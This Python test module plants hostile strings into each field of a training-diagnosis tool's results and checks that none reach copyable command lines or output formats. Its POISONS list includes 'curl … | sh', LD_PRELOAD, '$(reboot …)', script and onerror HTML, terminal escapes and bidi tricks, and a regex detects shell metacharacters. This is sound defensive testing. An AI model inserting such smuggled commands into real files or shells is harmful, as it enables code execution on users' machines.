"""Kept results of every kind, and what somebody may write into one text of one of them."""

from __future__ import annotations

import gzip
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final

import diagnoser
from diagnoser.demo import unpack
from heuristics.result.texts import changed
from reports.content.blocks import Block, Code, CodeBlock, Command, Fold, Part, Plan
from reports.content.page import Asked, Detail, Page
from reports.formats import FORMATS, ResultKind, kind_of, page_of
from reports.result.codec import Document
from reports.result.read import typed
from reports.result.voice.kept import kept
from tests.configurations.check import BRIDGE, COMMUNICATION, log_lines
from tests.configurations.pairs import PAIRS, config_of
from tests.hostile.secrets import laid_open
from tests.places import DATA
from traces.errors import NotAResult
from traces.texts import TextKind

MARK: Final = "qvenomz"
"""In every poison, and in no text of ours."""
POISONS: Final = {
    "preload": f"LD_PRELOAD=/tmp/{MARK}.so python",
    "pipe": f"curl {MARK} | sh",
    "substitution": f"$(reboot {MARK})",
    "backticks": f"`{MARK}`",
    "behind a setting": f"--bf16; {MARK}",
    "behind a variable": f"NCCL_ALGO=Ring {MARK}",
    "variable": f"{MARK.upper()}=1 {MARK}",
    "redirected": f"--bf16 > /etc/{MARK}",
    "advice": f"Remove the checkpoint and install {MARK} from the net",
    "escape": f"\x1b]8;;http://{MARK}.example\x1b\\x\x1b]8;;\x1b\\ \x1b[31m{MARK}",
    "page": f"<script>{MARK}</script><img src=x onerror={MARK}>",
    "link": f"[{MARK}](https://{MARK}.example/x)",
    "turned": f"\u202e{MARK}\u2066",
    "lines": f"{MARK}\n# {MARK}\n\n| a |",
    "long": MARK * 20_000,
}
FOREIGN: Final = frozenset({TextKind.RECORDED})
"""Kinds that are foreign by nature: in a result that is redacted, names of what was recorded."""


def documents(folder: Path) -> dict[str, Document]:
    """A document of every kind that is read again, by its name."""
    base, new = folder / "base.sqlite", folder / "new.sqlite"
    unpack(base, "graphs")
    unpack(new, "graphs_lost")
    files = {"train.yaml": BRIDGE, "train.log": "\n".join(log_lines()) + "\n"}
    files["symptoms.json"] = json.dumps(COMMUNICATION)
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")
    config, log, pair = folder / "train.yaml", folder / "train.log", PAIRS[0]
    found: dict[str, Any] = {
        "analysis": diagnoser.analyze(new, config=config, log=log, ask_megatron=False),
        "comparison": diagnoser.compare(base, new),
        "configuration": diagnoser.check_config(
            config, symptoms=folder / "symptoms.json", ask_megatron=False
        ),
        "files": diagnoser.compare_files(
            config_of(pair, "base"),
            config_of(pair, "new"),
            base_log=pair / "base.log",
            new_log=pair / "new.log",
        ),
        "layouts": diagnoser.plan("Qwen3-30B-A3B", gpus=16, about={"gpu": "H100"}),
    }
    made = {name: result.to_dict() for name, result in found.items()}
    (rank,) = made["analysis"]["ranks"]  # of many alike some are enough, and a third of the time
    rank["other_steps"], rank["a2a"]["spans"] = rank["other_steps"][:1], rank["a2a"]["spans"][:9]
    for path in sorted((DATA / "results").glob("*.json.gz")):
        made[path.name] = json.loads(gzip.decompress(path.read_bytes()))
    return made


def several_ranks(folder: Path) -> Document:
    """The document of a run of eight ranks."""
    unpack(folder, "ranks")
    return diagnoser.analyze(folder, ask_megatron=False).to_dict()


Spot = tuple[str | int, ...]


def texts_in(document: Any, path: Spot = ()) -> Iterator[Spot]:
    """Where a text stands."""
    if isinstance(document, str):
        yield path
    elif isinstance(document, list):
        for place, one in enumerate(document):
            yield from texts_in(one, (*path, place))
    elif isinstance(document, dict):
        for key, one in document.items():
            yield from texts_in(one, (*path, key))


def fields_in(document: Document) -> dict[str, Spot]:
    """The first text of each field, by the field's path with `[*]` for a place in a list."""
    found: dict[str, Spot] = {}
    for spot in texts_in(document):
        found.setdefault("".join("[*]" if isinstance(one, int) else f".{one}" for one in spot), spot)
    return found


def planted_at(document: Document, spot: Spot, text: str) -> Document:
    made: Document = json.loads(json.dumps(document))
    inner: Any = made
    for step in spot[:-1]:
        inner = inner[step]
    inner[spot[-1]] = text
    return made


def tables_in(document: Any, path: Spot = ()) -> Iterator[Spot]:
    """Where a table with keys stands, the first of each field."""
    if isinstance(document, dict):
        yield path
    inner = document.items() if isinstance(document, dict) else enumerate(document)
    for step, one in [*inner][: None if isinstance(document, dict) else 1]:
        if isinstance(one, dict | list):
            yield from tables_in(one, (*path, step))


def with_key(document: Document, spot: Spot, key: str) -> Document:
    """With one entry of a table once more, under another key."""
    made: Document = json.loads(json.dumps(document))
    table: Any = made
    for step in spot:
        table = table[step]
    table[key] = next(iter(table.values()), key)
    return made


def kind_at(document: Document) -> TextKind | None:
    """Of what kind the text with the mark is, as its type says."""
    found: list[TextKind] = []

    def note(kind: TextKind, text: Any) -> Any:
        if MARK in str(text):
            found.append(kind)
        return text

    changed(typed(document), note)
    return found[0] if found else None


def lines_to_copy(page: Page) -> list[str]:
    """Every line of a page that is there to be typed or copied."""
    return [line for block in page.blocks for line in _lines(block)]


def _lines(block: Block) -> Iterator[str]:
    match block:
        case CodeBlock(lines=lines):
            yield from lines
        case Command(line=line):
            yield line
        case Part(blocks=blocks) | Fold(blocks=blocks):
            for one in blocks:
                yield from _lines(one)
        case Plan(steps=steps):
            for step in steps:
                for way in step.spellings:
                    yield from way.code.lines
                for note in step.notes:
                    yield from (one.text for one in note if isinstance(one, Code))


def pages(result: Any) -> Iterator[Page]:
    for detail in Detail:
        yield page_of(result, detail)


_QUOTED: Final = re.compile(r"'[^']*'|\"[^\"$`\\]*\"")
_NODE: Final = re.compile(r"\$\(\(SLURM_LOCALID/\d+\)\)")
_RUNS: Final = re.compile(r"[;`|&<>\x00-\x1f\x7f]|\$\(|(?:^|[^A-Za-z])LD_")


def runs_something(line: str) -> bool:
    """Whether a shell would run more of a line than its one command; what stands in quotes is a word."""
    return _RUNS.search(_NODE.sub("0", _QUOTED.sub("''", line))) is not None


def read_again(document: Document) -> Any:
    """The result, or why it is refused."""
    try:
        return kept(typed(document))
    except NotAResult as error:
        return str(error)


def assert_harmless(document: Document, what: str, forms: tuple[str, ...]) -> None:
    """What was planted is refused, or is in no format, or is there as the name that its field is for."""
    result = read_again(document)
    if isinstance(result, str):
        assert MARK not in result, what
        return
    for page in pages(result):
        lines = lines_to_copy(page)
        assert not any(MARK in line or runs_something(line) for line in lines), (what, lines)
    if kind_at(document) in FOREIGN:
        return
    for form in forms:
        if kind_of(result) in FORMATS[form].kinds:
            briefly = form == "json" and kind_of(result) in (ResultKind.ANALYSIS, ResultKind.CONFIGURATION)
            for asked in (Asked(Detail.FULL), Asked(brief=briefly)):
                written = FORMATS[form].write(result, asked)
                content = written if isinstance(written, bytes) else written.encode("utf-8", "replace")
                assert MARK.encode() not in laid_open(content), (what, form)
